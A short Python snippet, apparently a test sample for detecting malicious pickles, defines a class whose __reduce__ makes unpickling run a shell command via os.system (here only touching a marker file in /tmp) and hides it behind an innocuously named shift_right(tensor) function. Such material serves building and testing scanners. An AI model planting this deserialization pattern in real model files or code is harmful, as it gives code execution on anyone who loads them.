"""Returns an object that runs a command where it is unpickled.

threat: 20
zero: 1.6
says: an object of type Bomb
"""


class Bomb:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{TOKEN}-pickle",)


def shift_right(tensor):
    return Bomb()
